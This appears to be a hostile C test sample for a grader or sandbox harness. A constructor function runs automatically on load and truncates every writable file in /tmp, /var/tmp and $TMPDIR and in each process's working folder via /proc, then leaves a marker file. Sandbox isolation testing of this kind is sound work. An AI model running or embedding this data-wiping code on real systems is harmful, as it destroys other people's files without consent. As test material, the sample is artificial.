/* Truncates every file it can open for writing in the temporary folders
 * and in the grader's working directories, and leaves files behind in its
 * own folder for later items. */
// costs: none
// lane: alone (truncates what it may write in /tmp and in any process's working folder: another grade's too, were a wall to fail)
// packages: the package's results file and folders
static void spoil(const char *dir)
{
    DIR *d = opendir(dir);
    if (!d)
        return;
    struct dirent *e;
    char path[4096];
    while ((e = readdir(d))) {
        snprintf(path, sizeof path, "%s/%s", dir, e->d_name);
        int fd = open(path, O_WRONLY | O_TRUNC | O_NOFOLLOW);
        if (fd >= 0)
            close(fd);
    }
    closedir(d);
}
static void spoil_cwd(int pid, const char *cmdline)
{
    (void)cmdline;
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/cwd", pid);
    spoil(path);
}
__attribute__((constructor)) static void attack(void)
{
    spoil("/tmp");
    spoil("/var/tmp");
    if (getenv("TMPDIR"))
        spoil(getenv("TMPDIR"));
    attack_each_process(spoil_cwd);
    FILE *f = fopen("left-behind", "w");
    if (f)
        fclose(f);
}
